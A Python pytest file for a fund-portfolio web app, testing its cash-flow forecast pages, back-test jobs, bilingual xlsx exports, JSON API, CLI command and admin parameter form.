"""Where the forecast shows (issue 16): the 预测 page per fund and sub-fund, 预测准确度, the
xlsx, the JSON API, the `forecast` command, and the admins' parameter form (audited)."""
from __future__ import annotations

import html
import io
import json
import re
from urllib.parse import quote

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from models import AuditEntry, ForecastParameters
from portfolio.book import cache
from portfolio.figures.forecast_backtest import band_record
from portfolio.figures.report import to_json
from portfolio.formatting import wan
from portfolio.interchange.demo import write_demo_book
from portfolio.interchange.importing import import_book
from portfolio.messages import Message

AS_OF = "2025-12-31"


@pytest.fixture
def demo(db, tmp_path):
    cache.clear()
    path = tmp_path / "demo.xlsx"
    write_demo_book(path)
    assert import_book(db.session, path, username="demo").ok
    yield db
    cache.clear()


def _set_as_of(client):
    with client.session_transaction() as s:
        s["as_of"] = AS_OF


def test_forecast_page_shows_actuals_estimates_chart_and_policy(demo, as_role):
    client = as_role("viewer")
    _set_as_of(client)
    page = client.get("/funds/QY/forecast")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "预测" in html and 'id="ccar"' in html and "<svg" in html
    # a row's kind in words, never forecast_book's bare code letters A and E
    assert '<td>2025Q4</td><td>实际</td>' in html and '<td>2026Q1</td><td>预测</td>' in html
    assert "<td>A</td>" not in html and "<td>E</td>" not in html and "A/E" not in html
    assert re.search(r"<td>20\d\d（预测）</td>", html) and not re.search(r"<td>20\d\d E</td>", html)
    assert "实缴进度" in html and "放大倍数" in html and "返投倍数" in html
    assert "inline-form" not in html  # a viewer sets nothing
    one = client.get("/funds/QY/forecast?unit=SF01")
    assert one.status_code == 200 and "QY-SF01" in one.get_data(as_text=True)
    assert client.get("/funds/QY/forecast?unit=NOPE").status_code == 404
    assert client.get("/funds/NOPE/forecast").status_code == 404
    assert client.get("/funds/QY").get_data(as_text=True).count('id="forecast-link"') == 1


def test_forecast_page_in_english(demo, as_role):
    client = as_role("viewer")
    _set_as_of(client)
    client.get("/lang/en")
    html = client.get("/funds/QY/forecast").get_data(as_text=True)
    assert "Capital call at risk" in html and "Forecast accuracy" in html
    assert "<th>Actual/Forecast</th>" in html and "<td>2025Q4</td><td>Actual</td>" in html
    policy = html.split('id="policy"', 1)[-1]
    assert re.search(r"<td>20\d\d \(forecast\)</td>", policy)
    assert "（预测）" not in policy and "（实际）" not in policy


def _follow(client, status_url: str, timeout: float = 120) -> dict:
    """Poll a job's status (as static/jobs.js does) until it is done or failed; the states seen."""
    import time

    deadline = time.monotonic() + timeout
    seen = []
    while True:
        status = client.get(status_url, headers={"Accept": "application/json"}).get_json()
        seen.append((status["state"], status["done"], status["total"], status["unit"]))
        if status["state"] not in ("queued", "running"):
            return status | {"seen": seen}
        assert time.monotonic() < deadline, f"job still {status['state']} after {timeout} s"
        time.sleep(0.2)


def _status_url(html: str) -> str:
    import re

    return re.search(r'data-job-status-url="([^"]+)"', html).group(1)


def test_accuracy_page_has_both_models(demo, as_role):
    from models import Job

    client = as_role("viewer")
    _set_as_of(client)
    html = client.get("/funds/QY/forecast/accuracy").get_data(as_text=True)
    # the back-test is a job: the page shows its progress bar and reloads itself when it is done
    assert 'id="backtest-job"' in html and "data-job-reload" in html and "<progress" in html
    status = _follow(client, _status_url(html))
    assert status["state"] == "done" and status["kind"] == "forecast_backtest"
    assert status["unit"] == "origins" and status["done"] == status["total"] > 10 and status["label"] == "个回测起点"
    html = client.get("/funds/QY/forecast/accuracy").get_data(as_text=True)
    assert "前两年出资 25%、此后 50%，弯度 3.0，存续期 15 年，增长率 10%" in html and "％" not in html  # as 12.3% elsewhere
    client.get("/lang/en")
    english = client.get("/funds/QY/forecast/accuracy").get_data(as_text=True)
    assert "calls 25% a year in years 1–2 then 50%, bow 3.0, life 15 years, growth 10%" in english
    client.get("/lang/zh")
    assert 'id="backtest"' in html and html.count('class="calibrated"') == 3 and html.count('class="published"') == 3
    # asked again on the same book: the same job, not a second one
    jobs = demo.session.execute(select(Job).where(Job.kind == "forecast_backtest")).scalars().all()
    assert len(jobs) == 1 and jobs[0].started_by == "viewer1" and jobs[0].params["as_of"] == AS_OF
    # its table is the back-test's
    import datetime as dt

    from portfolio.book.forecasting import fund_backtest
    direct = fund_backtest(demo.session, "QY", dt.date.fromisoformat(AS_OF))
    assert jobs[0].result["table"] == json.loads(json.dumps(direct["table"]))
    # the track record: each quarter's forecast beside what happened, the newest first, in 万元
    track = direct["track"]
    assert len(track) == direct["origins"] and jobs[0].result["track"] == json.loads(json.dumps(to_json(track)))
    rows = re.findall(r'<tr data-quarter="(\d{4}Q\d)">(.*?)</tr>', html.split('id="backtest-track"', 1)[1], re.S)
    assert [q for q, _ in rows] == [t["quarter"] for t in reversed(track)]
    newest, cells = track[-1], re.findall(r'<td class="num[^"]*"[^>]*>(.*?)</td>', rows[0][1], re.S)
    assert [re.sub(r'<span class="tag">.*?</span>|<[^>]+>', "", c).strip() for c in cells] == [
        wan(newest["calls_e"]), f'{wan(newest["calls_p10"])}–{wan(newest["calls_p90"])}', wan(newest["calls_actual"]),
        wan(newest["distributions_e"]), f'{wan(newest["distributions_p10"])}–{wan(newest["distributions_p90"])}',
        wan(newest["distributions_actual"])]
    outside = sum(not t["calls_inside"] for t in track) + sum(not t["distributions_inside"] for t in track)
    assert html.count('data-inside="0"') == outside
    # each actual outside its band tagged with the side it fell on
    below = sum(t[f"{n}_actual"] < t[f"{n}_p10"] for t in track for n in ("calls", "distributions"))
    assert html.count('<span class="tag">低于 P10</span>') == below > 0
    assert html.count('<span class="tag">高于 P90</span>') == outside - below > 0
    assert english.count('<span class="tag">below P10</span>') == below
    assert "Track record" in english and "Calls forecast" in english and "逐季回顾" not in english
    # another fund's job is not found under this fund
    assert client.get(f"/funds/TS/forecast/jobs/{jobs[0].id}.json").status_code == 404


def test_the_bands_record_is_shown_beside_them_once_the_back_test_is_done(demo, as_role):
    """预测准确度's track record, counted (how many quarters' actuals fell inside the P10–P90 band
    of the forecast made the quarter end before), on that page and on the forecast page beside the
    bands: there only when the back-test of this book version is done (the forecast page starts
    no job of its own)."""
    from models import Job

    client = as_role("viewer")
    _set_as_of(client)
    assert 'id="band-record"' not in client.get("/funds/QY/forecast").get_data(as_text=True)
    assert demo.session.scalar(select(func.count()).select_from(Job)) == 0
    _follow(client, _status_url(client.get("/funds/QY/forecast/accuracy").get_data(as_text=True)))
    track = demo.session.execute(select(Job)).scalar_one().result["track"]
    calls = sum(t["calls_inside"] for t in track)
    distributions = sum(t["distributions_inside"] for t in track)
    assert 0 < calls < len(track)  # the demo's calls come in tranches a year apart: outside the band at times
    said = (f"过去 {len(track)} 个季度中，下一季度出资的实际数落在预测的 P10–P90 区间内 {calls} 次，"
            f"分配 {distributions} 次")
    for path in ("/funds/QY/forecast", "/funds/QY/forecast/accuracy"):
        html = client.get(path).get_data(as_text=True)
        record = html.split('id="band-record"', 1)[1].split("</p>", 1)[0]
        assert said in record, path
        assert (f'data-quarters="{len(track)}" data-calls-inside="{calls}" '
                f'data-distributions-inside="{distributions}"') in record
        # the quarters outside the band, by the side they fell on
        below = sum(t["calls_actual"] < t["calls_p10"] for t in track)
        assert below + sum(t["calls_actual"] > t["calls_p90"] for t in track) == len(track) - calls
        assert f'data-calls-below="{below}" data-calls-above="{len(track) - calls - below}"' in record
        assert f"区间之外：出资实际数低于 P10 {below} 次、高于 P90 {len(track) - calls - below} 次" in record
    assert "/funds/QY/forecast/accuracy#track-record" in client.get("/funds/QY/forecast").get_data(as_text=True)
    assert 'id="band-record"' not in client.get("/funds/QY/forecast?unit=SF01").get_data(as_text=True)
    client.get("/lang/en")
    english = client.get("/funds/QY/forecast").get_data(as_text=True).split('id="band-record"', 1)[1]
    assert f"quarters looked back on: {len(track)}; of them" in english.split("</p>", 1)[0] and "Track record" in english
    assert f"quarters below P10 / above P90: calls {below} / {len(track) - calls - below}," in english.split("</p>", 1)[0]


def test_xlsx_as_a_job_with_progress(demo, as_role):
    client = as_role("viewer")
    _set_as_of(client)
    html = client.get("/funds/QY/forecast").get_data(as_text=True)
    assert 'data-job-start="/funds/QY/forecast/jobs"' in html
    response = client.post("/funds/QY/forecast/jobs", data={"unit": ""}, headers={"Accept": "application/json"})
    assert response.status_code == 202
    status = _follow(client, response.get_json()["status_url"])
    assert status["state"] == "done" and status["unit"] == "steps" and status["done"] == status["total"] == 2
    body = client.get(status["download_url"])
    assert body.status_code == 200 and body.headers["Content-Disposition"].endswith(
        quote(f"QY-现金流预测-{AS_OF}.xlsx", safe=""))
    assert load_workbook(io.BytesIO(body.data)).sheetnames == ["参数", "预测", "汇总", "核对"]
    # the plain link gives the same file, from the shared cache the job stored it in
    assert client.get("/funds/QY/forecast.xlsx").data == body.data
    # a unit the fund does not have: the job fails with its reason
    bad = client.post("/funds/QY/forecast/jobs", data={"unit": "NOPE"}, headers={"Accept": "application/json"})
    failed = _follow(client, bad.get_json()["status_url"])
    assert failed["state"] == "failed" and "NOPE" in failed["error"] and failed["download_url"] is None


def data_track(status: dict) -> list[dict]:
    """The track record of a back-test job's status (the API's)."""
    return status["backtest"]["track"]


def test_cli_backtest_runs_as_a_job_with_a_progress_bar(demo, runner):
    from models import Job

    out = runner.invoke(args=["forecast", "QY", "--as-of", AS_OF, "--format", "table", "--paths", "200",
                              "--backtest", "--progress"])
    assert out.exit_code == 0, out.output
    assert "个回测起点" in out.output and "预测准确度" in out.output  # the tqdm bar (standard error), the table
    # each model as the accuracy page names it, not by its code (calibrated, published)
    assert "按历史校准" in out.output and "未校准（公开参数）" in out.output
    assert "calibrated" not in out.output and "published" not in out.output
    english = runner.invoke(args=["forecast", "QY", "--as-of", AS_OF, "--format", "table", "--paths", "200",
                                  "--backtest", "--no-progress"], env={"PORTFOLIO_LANG": "en"})
    assert "Calibrated to history" in english.output and "Uncalibrated (published parameters)" in english.output
    assert not re.search(r"\bcalibrated\b|\bpublished  ", english.output), english.output
    # the track record's last four quarters, the newest last, an actual outside its band starred
    assert "逐季回顾" in out.output and "Track record" in english.output
    track = english.output.split("Track record", 1)[1].splitlines()[2:6]
    assert [line.split()[0] for line in track] == ["2025Q1", "2025Q2", "2025Q3", "2025Q4"]
    # and how the bands have done over the whole record, as the pages say it
    whole = demo.session.execute(select(Job)).scalar_one().result["track"]
    calls, distributions = (sum(t[f"{name}_inside"] for t in whole) for name in ("calls", "distributions"))
    assert (f"过去 {len(whole)} 个季度中，下一季度出资的实际数落在预测的 P10–P90 区间内 {calls} 次，"
            f"分配 {distributions} 次") in out.output
    # (the English counts come after a noun, so that a count of one reads right too)
    assert (f"quarters looked back on: {len(whole)}; of them, the next quarter's actual calls fell inside the "
            f"forecast's P10–P90 band in {calls}, and its distributions in {distributions}") in english.output
    # and where the others fell: below P10 (the forecast ran high) or above P90
    record = band_record(whole)
    assert (f"区间之外：出资实际数低于 P10 {record['calls_below']} 次、高于 P90 {record['calls_above']} 次，"
            f"分配低于 P10 {record['distributions_below']} 次、高于 P90 {record['distributions_above']} 次") in out.output
    assert (f"Outside it, quarters below P10 / above P90: calls {record['calls_below']} / {record['calls_above']}, "
            f"distributions {record['distributions_below']} / {record['distributions_above']}") in english.output
    jobs = demo.session.execute(select(Job)).scalars().all()
    assert [(j.kind, j.started_by, j.state) for j in jobs] == [("forecast_backtest", "cli", "done")]
    again = runner.invoke(args=["forecast", "QY", "--as-of", AS_OF, "--format", "json", "--paths", "200",
                                "--backtest"])
    assert again.exit_code == 0 and "个回测起点" not in again.output  # no terminal, and not redone
    assert json.loads(again.output)["backtest"]["table"][0]["model"] == "calibrated"
    assert demo.session.execute(select(Job)).scalars().all()[0].id == jobs[0].id


def test_xlsx_days_are_date_cells(demo):
    """The workbook's as-of date (汇总 截至 / Summary As of) and each quarter's end (季末) were
    written as text ('2025-12-31'): Excel neither sorted nor filtered them as days. They are
    date cells now, formatted yyyy-mm-dd, in both languages."""
    import datetime as dt

    from portfolio.book.forecasting import fund_forecast
    from portfolio.reports.forecast_xlsx import forecast_workbook

    as_of = dt.date.fromisoformat(AS_OF)
    result = fund_forecast(demo.session, "QY", as_of)
    for lang, label in (("zh", "截至"), ("en", "As of")):
        wb = load_workbook(io.BytesIO(forecast_workbook(result, "QY", lang=lang)))
        cell = next(value for name, value in wb.worksheets[2].iter_rows(min_row=2) if name.value == label)
        assert cell.is_date and cell.value.date() == as_of and cell.number_format == "yyyy-mm-dd", (lang, cell.value)
        ends = [row[1] for row in wb.worksheets[1].iter_rows(min_row=2)]
        assert ends and all(c.is_date and c.number_format == "yyyy-mm-dd" for c in ends), lang
        assert [c.value.date() for c in ends] == [q["end"] for q in result["actuals"] + result["forecast"]]


def test_xlsx_has_the_four_sheets(demo, as_role):
    client = as_role("viewer")
    _set_as_of(client)
    response = client.get("/funds/QY/forecast.xlsx")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.data))
    assert wb.sheetnames == ["参数", "预测", "汇总", "核对"]
    kinds = [row[2] for row in wb["预测"].iter_rows(min_row=2, values_only=True)]
    assert "实际" in kinds and "预测" in kinds and kinds.index("预测") > kinds.index("实际")
    assert all(row[1] == "是" for row in wb["核对"].iter_rows(min_row=2, values_only=True))


def _cells(ws) -> list:
    return [c.value for row in ws.iter_rows() for c in row]


def test_the_workbook_speaks_the_readers_language(demo, as_role):
    """A Chinese reader's workbook had English sheet names (Inputs, Forecast, Summary, Checks),
    a column of bare A and E with the header A/E (and 实缴进度 2025（A）), and the file name
    QY-forecast-2025-12-31.xlsx. Now everything in it is in the reader's language: sheets
    参数/预测/汇总/核对, the column 实际/预测 with 实际 and 预测, the file QY-现金流预测-….xlsx
    (RFC 5987 filename*, as every download); in English wholly English. The real downloads,
    from the link and from the job, for the fund and for one sub-fund."""
    client = as_role("viewer")
    _set_as_of(client)
    books = {}
    for lang, sheets, kinds, name in (
            ("zh", ["参数", "预测", "汇总", "核对"], ("实际", "预测"), f"QY-现金流预测-{AS_OF}.xlsx"),
            ("en", ["Inputs", "Forecast", "Summary", "Checks"], ("Actual", "Forecast"), f"QY-forecast-{AS_OF}.xlsx")):
        client.get(f"/lang/{lang}")
        link = client.get("/funds/QY/forecast.xlsx")
        assert link.status_code == 200
        disposition = link.headers["Content-Disposition"]
        assert disposition.endswith(f"filename*=UTF-8''{quote(name, safe='')}"), disposition
        started = client.post("/funds/QY/forecast/jobs", data={"unit": ""}, headers={"Accept": "application/json"})
        job = client.get(_follow(client, started.get_json()["status_url"])["download_url"])
        assert job.headers["Content-Disposition"] == disposition and job.data == link.data
        wb = books[lang] = load_workbook(io.BytesIO(link.data))
        assert wb.sheetnames == sheets, lang
        forecast = wb[sheets[1]]
        header = [c.value for c in forecast[1]]
        assert header[:3] == {"zh": ["季度", "季末", "实际/预测"], "en": ["Quarter", "Quarter end", "Actual/Forecast"]}[lang]
        # every amount's header says its unit (the Inputs' and the Summary's do: 万元, not yuan)
        unit = {"zh": "（万元）", "en": " (CNY 10k)"}[lang]
        assert len(header) == 13 and all(h.endswith(unit) for h in header[3:]), header
        assert header[3] == {"zh": "出资（万元）", "en": "Contributions (CNY 10k)"}[lang]
        column = [row[2] for row in forecast.iter_rows(min_row=2, values_only=True)]
        actual, expected = kinds
        assert set(column) == {actual, expected} and column.index(expected) == column.count(actual) > 0, lang
        # the paid-in progress of a year, actual or forecast, says which in words too
        start, brackets = {"zh": ("实缴进度 ", "（%s）"), "en": ("Paid-in progress ", " (%s)")}[lang]
        progress = [label for label, _ in wb[sheets[2]].iter_rows(min_row=2, values_only=True) if label.startswith(start)]
        assert {label[len(start) + 4:] for label in progress} == {brackets % actual, brackets % expected}, progress
        # a reinvestment multiple not met by the forecast's end says so, as the page (not a bare —)
        unmet = [value for label, value in wb[sheets[2]].iter_rows(min_row=2, values_only=True)
                 if isinstance(value, str) and label.startswith({"zh": "返投倍数", "en": "Reinvestment"}[lang])]
        assert unmet and set(unmet) == {{"zh": "预测期内未达标", "en": "Not met within the forecast"}[lang]}
        # no bare code left in any cell of the workbook (A, E: the forecast's, not the reader's)
        texts = [v for ws in wb.worksheets for v in _cells(ws) if isinstance(v, str)]
        assert not [v for v in texts if v in ("A", "E", "A/E") or v.endswith(("（A）", "（E）", "(A)", "(E)"))], lang
        # one sub-fund's workbook: the same names, the unit in the file's name
        one = client.get("/funds/QY/forecast.xlsx?unit=SF01")
        unit_name = name.replace("QY-", "QY-SF01-", 1)
        assert one.headers["Content-Disposition"].endswith(f"filename*=UTF-8''{quote(unit_name, safe='')}")
        assert load_workbook(io.BytesIO(one.data)).sheetnames == sheets
    # in English, nothing Chinese but the book's own names (a sub-fund's, a company's)
    for ws in books["en"].worksheets:
        assert not CJK.search(ws.title) and not [c.value for c in ws[1] if CJK.search(str(c.value))], ws.title


CJK = re.compile(r"[\u3000-\u303f\u3400-\u9fff\uff00-\uffef]")


def test_xlsx_in_english_with_the_same_figures(demo, as_role):
    """Issue 15 item 1: the workbook in the reader's language: headers, labels and the
    forecast's codes in English, the fund's English name; the same numbers as the Chinese
    workbook; a file of its own in the shared cache, from the link and from the job alike."""
    client = as_role("viewer")
    _set_as_of(client)
    chinese = client.get("/funds/QY/forecast.xlsx")
    client.get("/lang/en")
    english = client.get("/funds/QY/forecast.xlsx")
    assert english.status_code == 200 and english.data != chinese.data
    zh, en = (load_workbook(io.BytesIO(r.data)) for r in (chinese, english))
    assert en.sheetnames == ["Inputs", "Forecast", "Summary", "Checks"]
    assert zh.sheetnames == ["参数", "预测", "汇总", "核对"]
    for zs, es in zip(zh.worksheets, en.worksheets):
        assert [c.value for c in es[1] if CJK.search(str(c.value))] == [], es.title  # headers
        assert (zs.max_row, zs.max_column) == (es.max_row, es.max_column), es.title
        for zrow, erow in zip(zs.iter_rows(min_row=2), es.iter_rows(min_row=2)):
            for z, e in zip(zrow, erow):
                if isinstance(e.value, str) and CJK.search(e.value):
                    # only the book's own names (a sub-fund's, a company's), which have no English
                    assert (es.title, e.column) == ("Inputs", 3) and e.value == z.value, (es.title, e.coordinate)
                elif not isinstance(z.value, str):
                    assert e.value == z.value, (es.title, e.coordinate)
    summary = {row[0]: row[1] for row in en["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Fund"] == "QY Ningbo 100bn S&T Innovation Fund"
    assert isinstance(summary["Expected calls, next year (CNY 10k)"], float)
    assert {row[1] for row in en["Inputs"].iter_rows(min_row=2, values_only=True)} == {
        "Sub-fund", "Direct and co-investments"}
    assert {row[1] for row in en["Checks"].iter_rows(min_row=2, values_only=True)} == {"Yes"}
    # the checks' residuals are in yuan, where every other amount of the workbook is in 万元: the
    # header says so (it read 数值 / Value)
    assert en["Checks"]["C1"].value == "Value (CNY)" and zh["核对"]["C1"].value == "数值（元）"
    # the Chinese workbook names the codes in the page's Chinese words
    assert {row[1] for row in zh["参数"].iter_rows(min_row=2, values_only=True)} == {"子基金", "直投和跟投"}
    # the job in English gives the English file (the one the link stored); Chinese again, the Chinese
    response = client.post("/funds/QY/forecast/jobs", data={"unit": ""}, headers={"Accept": "application/json"})
    status = _follow(client, response.get_json()["status_url"])
    assert status["state"] == "done" and client.get(status["download_url"]).data == english.data
    client.get("/lang/zh")
    assert client.get("/funds/QY/forecast.xlsx").data == chinese.data

def test_xlsx_numbers_have_the_pages_formats(demo):
    """The forecast workbook wrote every cell 'General': call rates as 0.1722222222222222,
    paid-in progress 0.8066… with no %, leverage 3.926… (the page: 3.93x), a check 4.77e-07.
    Each number now has the format of how the app shows it (XLSX_FORMATS, as the quarterly
    workbook): 万元 '#,##0.00', rates and shares %, multiples x, counts, years, the checks'
    residuals in scientific notation; the values the forecast's own, numeric, in both languages."""
    import datetime as dt
    from numbers import Real

    from portfolio.book.forecasting import fund_forecast
    from portfolio.formatting import XLSX_FORMATS as F
    from portfolio.reports.forecast_xlsx import forecast_workbook

    result = fund_forecast(demo.session, "QY", dt.date.fromisoformat(AS_OF))
    exact = {"rel": 1e-15, "abs": 0}  # the double as openpyxl writes it: 16 significant digits

    def number(cell):
        return isinstance(cell.value, Real) and not isinstance(cell.value, bool) and cell.data_type == "n"

    books = {lang: load_workbook(io.BytesIO(forecast_workbook(result, "QY", lang=lang))) for lang in ("zh", "en")}
    for lang, wb in books.items():
        inputs = list(wb.worksheets[0].iter_rows(min_row=2))  # 参数 / Inputs
        assert len(inputs) == len(result["units"]) > 0
        kinds = {4: "amount", 5: "amount", 6: "amount", 7: "amount", 8: "years", 9: "percent", 10: "percent",
                 11: "decimal", 12: "years", 13: "percent", 14: "percent"}
        for row, unit in zip(inputs, result["units"]):
            for column, kind in kinds.items():
                cell = row[column - 1]
                assert number(cell) and cell.number_format == F[kind], (lang, cell.coordinate, cell.number_format)
            assert row[9].value == pytest.approx(unit["parameters"]["rc_late"], **exact)
            assert row[3].value == pytest.approx(unit["commitment"] / 1e4, **exact)  # not rounded to 0.01
            assert [c.number_format for c in row[:3] + row[14:]] == ["General"] * 4  # words
        forecast = list(wb.worksheets[1].iter_rows(min_row=2))
        amounts = [c for row in forecast for c in row[3:] if c.value is not None]
        assert amounts and all(number(c) and c.number_format == F["amount"] for c in amounts), lang
        summary = [(label.value, value) for label, value in wb.worksheets[2].iter_rows(min_row=2)]
        formats = [value.number_format for _, value in summary if number(value)]
        assert formats.count(F["count"]) == 1 and formats.count(F["multiple"]) == 1
        # the paid-in progress by year, and the random layer's shares (π of calls and distributions, ρ of all three)
        assert formats.count(F["percent"]) == len(result["policy"]["paid_in_progress"]) + 5 > 5
        layer = [value.value for _, value in summary if number(value) and value.number_format == F["decimal"]]
        assert layer == [pytest.approx(result["noise"][f"{kind}_sigma"], **exact)
                         for kind in ("call", "distribution", "growth")]  # the σ, as the page's '%.2f'
        assert formats.count(F["year"]) == sum(bool(r["year_met"]) for r in result["policy"]["reinvestment"]) > 0
        assert formats.count(F["amount"]) == 4 + 2 * sum(len(v) for v in result["call_at_risk"].values())
        wan = [value.value for _, value in summary if number(value) and value.number_format == F["amount"]]
        assert any(v != round(v, 2) for v in wan)  # the value exact; the format shows two places
        leverage = next(value for _, value in summary if value.number_format == F["multiple"])
        assert leverage.value == pytest.approx(result["policy"]["leverage"], **exact)  # exact: 3.93x is the format's doing
        checks = [row[2] for row in wb.worksheets[3].iter_rows(min_row=2)]
        assert len(checks) == len(result["checks"]) and all(number(c) and c.number_format == F["scientific"] for c in checks)
        assert [c.value for c in checks] == [pytest.approx(c["value"], **exact) for c in result["checks"]]
    zh, en = ([[(c.value if not isinstance(c.value, str) else None, c.number_format) for row in ws.iter_rows(min_row=2)
                for c in row] for ws in wb.worksheets] for wb in books.values())
    assert zh == en  # the same numbers, the same formats, in either language


def test_the_bands_random_layer_is_shown_as_fitted(demo, as_role):
    """The page and the workbook say what the P10–P90 bands are simulated from: the random
    layer fitted to the fund's own history (σ, the share of quarters without a flow, and the
    common-factor share ρ of calls, distributions and NAV returns), as the API's `noise`."""
    import datetime as dt

    from portfolio.book.forecasting import fund_forecast
    from portfolio.formatting import percent
    from portfolio.reports.forecast_xlsx import forecast_workbook

    client = as_role("viewer")
    _set_as_of(client)
    noise = client.get(f"/api/v1/funds/QY/forecast?as_of={AS_OF}").get_json()["noise"]
    assert noise["call_zero"] > 0.3 and 0 <= noise["growth_common"] <= 1  # fitted: the demo's calls are lumpy
    card = client.get("/funds/QY/forecast").get_data(as_text=True).split('id="forecast-noise"', 1)[1]
    card = card.split("</table>", 1)[0]
    assert "区间的随机层" in card and "共同因子占比 ρ" in card
    for kind in ("call", "distribution", "growth"):
        row = card.split(f'data-layer="{kind}"', 1)[1].split("</tr>", 1)[0]
        assert f'<td class="num">{noise[kind + "_sigma"]:.2f}</td>' in row
        assert f'<td class="num">{percent(noise[kind + "_common"])}</td>' in row
        if kind != "growth":
            assert f'<td class="num">{percent(noise[kind + "_zero"])}</td>' in row
    client.get("/lang/en")
    english = client.get("/funds/QY/forecast").get_data(as_text=True).split('id="forecast-noise"', 1)[1]
    english = english.split("</div>", 1)[0]
    assert "random layer" in english and "Common-factor share ρ" in english and "NAV return" in english
    assert not re.search(r"[\u4e00-\u9fff]", english)
    result = fund_forecast(demo.session, "QY", dt.date.fromisoformat(AS_OF))
    for lang, label in (("zh", "出资：共同因子占比 ρ"), ("en", "Contributions: common-factor share ρ")):
        summary = dict(load_workbook(io.BytesIO(forecast_workbook(result, "QY", lang=lang)))
                       .worksheets[2].iter_rows(min_row=2, values_only=True))
        assert summary[label] == pytest.approx(result["noise"]["call_common"], rel=1e-15, abs=0)


def test_api_forecast(demo, as_role, monkeypatch):
    from models import CachedReport, Job
    from web import queue

    client = as_role("viewer")
    url = f"/api/v1/funds/QY/forecast?as_of={AS_OF}&backtest=1"
    plain = client.get(f"/api/v1/funds/QY/forecast?as_of={AS_OF}")
    assert plain.status_code == 200 and "backtest" not in plain.get_json()
    # the back-test is a job, never computed in the request: 202, its id and status URL
    started = client.get(url)
    assert started.status_code == 202, started.get_data(as_text=True)
    job = started.get_json()
    assert started.headers["Location"] == job["status_url"] == f"/api/v1/funds/QY/forecast/backtest/jobs/{job['id']}"
    assert job["state"] in ("queued", "running", "done") and job["kind"] == "forecast_backtest"
    again = client.get(url)  # the same work on the same book: the same job (or, already done, its table)
    assert again.status_code in (200, 202)
    if again.status_code == 202:
        assert again.get_json()["id"] == job["id"]
    status = _follow(client, job["status_url"])
    assert status["state"] == "done" and status["unit"] == "origins" and status["done"] == status["total"] > 10
    assert status["started_by"] == "viewer1" and status["result_url"] == f"/api/v1/funds/QY/forecast?as_of={AS_OF}&backtest=1"
    assert [r["model"] for r in status["backtest"]["table"]][:2] == ["calibrated", "published"]
    jobs = demo.session.execute(select(Job).where(Job.kind == "forecast_backtest")).scalars().all()
    assert [j.id for j in jobs] == [job["id"]]
    # done: the table from the shared cache, with 200, no job asked for
    from web.forecast import BACKTEST_CACHE

    assert demo.session.execute(select(CachedReport).where(CachedReport.what == BACKTEST_CACHE,
                                                           CachedReport.fund_code == "QY")).scalar_one()
    assert data_track(status) and data_track(status)[-1]["quarter"] == "2025Q4"

    def no_job(*args, **kwargs):
        raise AssertionError("a job submitted for a cached back-test")

    monkeypatch.setattr(queue, "submit", no_job)
    response = client.get(status["result_url"])
    assert response.status_code == 200
    data = response.get_json()
    assert data["fund"] == "QY" and data["as_of"] == AS_OF
    assert {"forecast", "actuals", "call_at_risk", "checks", "policy", "units", "backtest"} <= set(data)
    assert data["backtest"] == status["backtest"]
    import datetime as dt

    from portfolio.book.forecasting import fund_backtest
    direct = fund_backtest(demo.session, "QY", dt.date.fromisoformat(AS_OF))
    assert data["backtest"]["table"] == json.loads(json.dumps(direct["table"]))
    # the screen's 预测准确度 finds the same job done
    monkeypatch.undo()
    _set_as_of(client)
    assert 'id="backtest"' in client.get("/funds/QY/forecast/accuracy").get_data(as_text=True)
    # a job of another fund, or none, is not found under this fund; no 5xx for any id
    for other in (f"/api/v1/funds/TS/forecast/backtest/jobs/{job['id']}",
                  "/api/v1/funds/QY/forecast/backtest/jobs/999999", "/api/v1/funds/QY/forecast/backtest/jobs/0",
                  f"/api/v1/funds/QY/forecast/backtest/jobs/{2**70}"):
        missing = client.get(other)
        assert missing.status_code == 404 and missing.get_json()["status"] == 404
    assert client.get("/api/v1/funds/NOPE/forecast").status_code == 404
    assert client.get("/api/v1/funds/NOPE/forecast?backtest=1").status_code == 404
    assert client.get("/api/v1/funds/QY/forecast?as_of=garbage").status_code == 400
    assert "/funds/{code}/forecast" in client.get("/api/v1/openapi.json").get_json()["paths"]


def test_cli_forecast_json_and_table(demo, runner):
    out = runner.invoke(args=["forecast", "QY", "--as-of", AS_OF, "--format", "json", "--paths", "200"])
    assert out.exit_code == 0, out.output
    data = json.loads(out.output)
    assert data["forecast"][0]["quarter"] == "2026Q1"
    table = runner.invoke(args=["forecast", "QY", "--as-of", AS_OF, "--format", "table", "--paths", "200"])
    assert table.exit_code == 0 and "出资风险值 CCaR" in table.output and "2026Q1  E" in table.output
    # the checks by what they check, as the forecast page names them, never by their codes
    assert "检查：期初剩余价值 + 出资 − 分配 + 增值 = 期末剩余价值 通过；未实缴不为负 通过；累计出资不超过认缴 通过" \
        in table.output and "nav_roll" not in table.output and "unfunded_non_negative" not in table.output
    assert runner.invoke(args=["forecast", "NOPE", "--as-of", AS_OF]).exit_code != 0
    # the command line in English (web/cli/language.py): the same table, no Chinese left
    english = runner.invoke(args=["forecast", "QY", "--as-of", AS_OF, "--format", "table", "--paths", "200"],
                            env={"PORTFOLIO_LANG": "en"})
    assert english.exit_code == 0 and "Capital calls at risk, CCaR" in english.output
    assert re.search(r"2026Q1\s+E", english.output) and "Calls P10" in english.output and "Checks: " in english.output
    assert "Checks: NAV at start + calls − distributions + growth = NAV at end Pass; Unfunded never negative Pass; " \
        "Total calls within commitment Pass" in english.output and "calls_within_commitment" not in english.output
    assert not re.search(r"[\u3000-\u303f\u4e00-\u9fff\uff00-\uffef]", english.output), english.output
    refused = runner.invoke(args=["forecast", "NOPE", "--as-of", AS_OF], env={"PORTFOLIO_LANG": "en"})
    assert refused.exit_code != 0 and "There is no fund NOPE" in refused.output


def test_admin_sets_parameters_and_the_forecast_follows(demo, as_role, client):
    admin = as_role("admin")
    _set_as_of(admin)
    html = admin.get("/funds/QY/forecast?unit=SF01").get_data(as_text=True)
    assert "inline-form" in html
    response = admin.post("/funds/QY/forecast/parameters/QY-SF01", data={"rc_late": "0.9", "growth": "0.2"})
    assert response.status_code == 302 and "unit=SF01" in response.headers["Location"]
    row = demo.session.get(ForecastParameters, "QY-SF01")
    assert row.rc_late == 0.9 and row.growth == 0.2
    assert demo.session.execute(select(AuditEntry).where(AuditEntry.entity == "forecast_parameters")).scalar()
    data = admin.get(f"/api/v1/funds/QY/forecast?as_of={AS_OF}&unit=SF01").get_json()
